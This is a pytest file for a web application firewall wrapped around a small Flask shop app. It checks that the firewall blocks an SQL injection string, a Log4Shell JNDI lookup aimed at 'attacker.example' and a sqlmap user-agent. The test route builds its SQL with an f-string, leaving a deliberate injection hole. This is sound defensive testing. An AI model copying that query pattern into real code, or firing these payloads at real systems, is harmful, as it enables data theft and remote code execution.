"""The Flask recipe of docs/shield.md, end to end (Flask is present in dev through moto[server])."""

from __future__ import annotations

import sqlite3
from pathlib import Path
from typing import Any

import pytest

from soryoku.shield import ShieldConfig, protect

flask = pytest.importorskip(
    "flask", reason="Flask is not installed (it comes with moto[server] in the dev extra)"
)


@pytest.fixture
def client(tmp_path: Path) -> Any:
    db = tmp_path / "shop.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE items (id INTEGER, name TEXT)")
    conn.executemany("INSERT INTO items VALUES (?, ?)", [(1, "red shoes"), (2, "O'Brien boots")])
    conn.commit()
    conn.close()
    app = flask.Flask("shop")

    @app.get("/items")
    def items() -> Any:
        name = flask.request.args["name"]
        with sqlite3.connect(db) as conn:
            rows = conn.execute(f"SELECT id FROM items WHERE name = '{name}'").fetchall()
        return {"ids": [r[0] for r in rows]}

    @app.post("/items/search")
    def search() -> Any:
        name = flask.request.get_json()["name"]
        with sqlite3.connect(db) as conn:
            rows = conn.execute("SELECT id FROM items WHERE name = ?", (name,)).fetchall()
        return {"ids": [r[0] for r in rows]}

    app.wsgi_app = protect(app.wsgi_app, ShieldConfig(mode="block"))  # type: ignore[method-assign]
    return app.test_client()


def test_flask_clean_traffic(client: Any) -> None:
    assert client.get("/items", query_string={"name": "red shoes"}).get_json() == {"ids": [1]}
    assert client.post("/items/search", json={"name": "O'Brien boots"}).get_json() == {"ids": [2]}


def test_flask_turns_the_sink_block_into_403_not_500(client: Any) -> None:
    response = client.get("/items", query_string={"name": "x' OR '1'='1"})
    assert response.status_code == 403
    assert response.headers["x-soryoku-block"] == "sqli:token_structure"


def test_flask_request_rules(client: Any) -> None:
    response = client.post("/items/search", json={"name": "${jndi:ldap://attacker.example/a}"})
    assert (response.status_code, response.headers["x-soryoku-block"]) == (403, "known_bad_inputs:log4shell")
    assert client.get("/items", headers={"user-agent": "sqlmap/1.7"}).status_code == 403
